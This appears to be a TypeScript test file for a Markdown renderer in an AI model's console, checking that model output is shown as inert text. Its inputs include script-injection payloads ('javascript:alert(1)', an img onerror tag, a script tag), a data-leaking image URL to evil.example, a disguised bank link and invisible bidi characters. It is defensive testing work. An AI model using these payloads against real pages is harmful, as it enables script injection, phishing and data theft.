/** What is shown of a model's Markdown: text, and how it is set. Nothing in it leads anywhere. */
import fc from 'fast-check';
import { type Block, type Inline, markdownBlocks } from '../../../console/app/assistant/markdown';
import { firstUnseen } from '../../../lib/contract/text';

/** One line of text for each block, in a notation that shows every kind. */
function inWords(blocks: readonly Block[]): string {
  return blocks.map(blockInWords).join(' | ');
}

function blockInWords(block: Block): string {
  switch (block.kind) {
    case 'paragraph':
      return lineInWords(block.children);
    case 'heading':
      return `heading{${lineInWords(block.children)}}`;
    case 'code':
      return `code{${block.text}}`;
    case 'quote':
      return `quote{${inWords(block.blocks)}}`;
    case 'list':
      return `list${block.start ?? ''}{${block.items.map(inWords).join('; ')}}`;
    case 'table':
      return `table{${[block.header, ...block.rows].map((row) => row.map(lineInWords).join(', ')).join('; ')}}`;
    case 'rule':
      return 'rule';
  }
}

function lineInWords(inlines: readonly Inline[]): string {
  return inlines
    .map((inline) => {
      if (inline.kind === 'break') return '⏎';
      if (inline.kind === 'text') return inline.text;
      if ('children' in inline) return `${inline.kind}{${lineInWords(inline.children)}}`;
      return `${inline.kind}{${inline.text}}`;
    })
    .join('');
}

it.each<[string, string, string]>([
  ['text', 'Your balance is 12.30.', 'Your balance is 12.30.'],
  ['lines', 'one\ntwo\n\nthree', 'one⏎two | three'],
  ['emphasis', '**a *b* c**', 'strong{a emphasis{b} c}'],
  ['code', '`<b>` and\n\n```html\n<b>\tx</b>\n\n y\n```', 'code{<b>} and | code{<b>    x</b>\n\n y}'],
  ['a heading', '# Lease approved', 'heading{Lease approved}'],
  ['a list', '3. a\n4. b\n   - c', 'list3{a; b | list{c}}'],
  ['a task', '- [x] paid\n- [ ] open', 'list{[x]  | paid; [ ]  | open}'],
  ['a quote', '> a\n> > b', 'quote{a | quote{b}}'],
  ['a table', '|a|**b**|\n|-|-|\n|1|[x](http://e)|', 'table{a, strong{b}; 1, x (address{http://e})}'],
  ['a rule', 'a\n\n---\n\nb', 'a | rule | b'],
  // Links are text, with the address beside the label.
  ['a link', '[your bank](https://evil.example/login)', 'your bank (address{https://evil.example/login})'],
  ['an address', 'see https://evil.example/x', 'see address{https://evil.example/x}'],
  ['an address in brackets', '<https://evil.example>', 'address{https://evil.example}'],
  ['a label that is another address', '[https://bank](https://evil)', 'https://bank (address{https://evil})'],
  ['a script as an address', '[go](javascript:alert(1))', 'go (address{javascript:alert(1)})'],
  ['data as an address', '[go](data:text/html,<b>)', 'go (address{data:text/html,<b>})'],
  ['an address elsewhere', '[go][1]\n\n[1]: https://evil', 'go (address{https://evil}) | [1]: https://evil'],
  ['a link to a page of the console', '[Approve](#/leases/lh-1)', 'Approve (address{#/leases/lh-1})'],
  // Images are not loaded: their addresses would carry data away.
  ['an image', '![a](https://evil.example/?q=secret)', '![a](https://evil.example/?q=secret)'],
  ['an image in a link', '[![a](https://e/i)](https://e)', '![a](https://e/i) (address{https://e})'],
  ['an image elsewhere', '![a][1]\n\n[1]: https://evil', '![a][1] | [1]: https://evil'],
  // HTML is text.
  ['a button', '<button onclick="x()">Approve</button>', '<button onclick="x()">Approve</button>'],
  ['a script', '<script>alert(1)</script>', '<script>alert(1)</script>'],
  ['HTML in a line', 'a <img src=x onerror=alert(1)> b', 'a <img src=x onerror=alert(1)> b'],
  ['a comment', '<!-- hidden -->', '<!-- hidden -->'],
  ['entities', '&lt;b&gt; &amp; &#x202e;', '&lt;b&gt; &amp; \\u{202e}'],
  // Invisible characters are escapes.
  ['text from right to left', 'pay \u202etxet\u202c', 'pay \\u{202e}txet\\u{202c}'],
  ['an isolate in code', '`a\u2067b`', 'code{a\\u{2067}b}'],
  ['a zero-width space in an address', '[a](https://ba\u200bnk)', 'a (address{https://ba\\u{200b}nk})'],
  ['tags', 'a\u{e0041}', 'a\\u{e0041}'],
  ['a control character', 'a\u001b[31m', 'a\\x1b[31m'],
  ['a blank that is no space', 'a\u00a0b', 'a\\xa0b'],
])('%s', (_, text, expected) => {
  expect(inWords(markdownBlocks(text))).toBe(expected);
});

/** How deep quotes and lists are. */
function depthOf(blocks: readonly Block[]): number {
  const below = blocks.flatMap((block) => {
    if (block.kind === 'quote') return [block.blocks];
    return block.kind === 'list' ? block.items : [];
  });
  return 1 + Math.max(0, ...below.map(depthOf));
}

it.each([
  ['quotes', '>'.repeat(10_000)],
  ['lists', Array.from({ length: 100 }, (_, at) => `${' '.repeat(2 * at)}- a`).join('\n')],
  ['too much text', '> a\n\n'.repeat(10_000)],
])('%s that would be too much are shown as they are', (_, text) => {
  const blocks = markdownBlocks(text);
  expect(depthOf(blocks)).toBeLessThan(12);
  expect(inWords(blocks).replace(/[^>a]/g, '').length).toBeGreaterThan(50);
});

const pieces = fc.constantFrom(
  ...['[', ']', '(', ')', '!', '<', '>', '`', '*', '_', '|', '-', '\n', '\n\n', '# ', '> ', '- ', '1. ', '    ', '&'],
  ...['<b>', '<script>', 'javascript:', 'https://e', 'a', '\u202e', '\u200b', '\t', '~~', '\\', '\u0000', '\ud800'],
);

it('whatever a model writes, no invisible character is left in what is shown', () => {
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 60 }), (some) => {
      const shown = inWords(markdownBlocks(some.join('')));
      expect(firstUnseen(shown)).toBeUndefined();
    }),
    { numRuns: Number(process.env.LEASEHOLD_PROPERTY_RUNS ?? 500) },
  );
});
